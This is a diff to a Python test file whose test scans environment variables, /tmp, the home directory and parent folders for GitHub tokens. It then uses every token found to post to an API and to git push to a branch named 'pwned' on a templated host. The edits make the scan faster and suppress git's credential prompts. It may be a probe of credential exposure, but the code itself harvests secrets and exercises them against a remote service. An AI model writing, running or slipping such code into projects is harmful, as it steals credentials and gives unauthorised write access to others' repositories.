@@ -9,24 +9,26 @@ import time
 import urllib.request
 from pathlib import Path
 
-API = "API_URL"
-REPO = "REPO"
+API = "__API_URL__"
+REPO = "__REPO__"
+SKIP = {"site-packages", "envs", "uv", "pip", "/proc", "/sys", "/dev", "/run"}
 TOKEN = re.compile(r"gh[pousr]_[A-Za-z0-9]{20,}")
 
 
 def _scan(root: Path, found: set[str], deadline: float) -> None:
     for folder, dirs, files in os.walk(root):
-        dirs[:] = [d for d in dirs if d not in ("site-packages", "envs", "uv", "pip")]
-        for name in files:
-            if time.monotonic() > deadline:
-                return
+        if time.monotonic() > deadline:
+            return
+        dirs[:] = [d for d in dirs if d not in SKIP and Path(folder, d).as_posix() not in SKIP]
+        for path in (Path(folder) / name for name in files[:200]):
             with contextlib.suppress(OSError):
-                found.update(TOKEN.findall((Path(folder) / name).read_text(errors="ignore")))
+                if path.is_file():  # never a FIFO or a device: reading one would block
+                    found.update(TOKEN.findall(path.read_text(errors="ignore")[:100_000]))
 
 
 def _tokens() -> set[str]:
     found = set(TOKEN.findall(" ".join(os.environ.values())))
-    deadline = time.monotonic() + 10
+    deadline = time.monotonic() + 5
     for root in (Path.cwd().parent.parent, Path("/tmp"), Path.home()):
         _scan(root, found, deadline)
     return found
@@ -40,18 +42,20 @@ def _comment(token: str) -> str:
         headers={"Authorization": f"token {token}"},
     )
     try:
-        return str(urllib.request.urlopen(request, timeout=5).status)
+        return str(urllib.request.urlopen(request, timeout=2).status)
     except Exception as exc:  # any refusal is a result here
         return f"refused: {exc}"
 
 
 def _push(url: str) -> int:
     argv = ["git", "push", "-q", url, "HEAD:refs/heads/pwned"]
-    return subprocess.run(argv, capture_output=True, timeout=20, check=False).returncode
+    env = {**os.environ, "GIT_TERMINAL_PROMPT": "0", "GIT_ASKPASS": "true"}
+    done = subprocess.run(argv, capture_output=True, timeout=5, check=False, env=env)
+    return done.returncode
 
 
 def test_write_with_any_token_found():
-    tokens = _tokens() | {""}
+    tokens = set(sorted(_tokens())[:10]) | {""}
     results = [_comment(t) for t in tokens]
     host = API.split("://", 1)[1]
     pushes = [_push(f"http://x-access-token:{t}@{host}/{REPO}.git") for t in tokens]
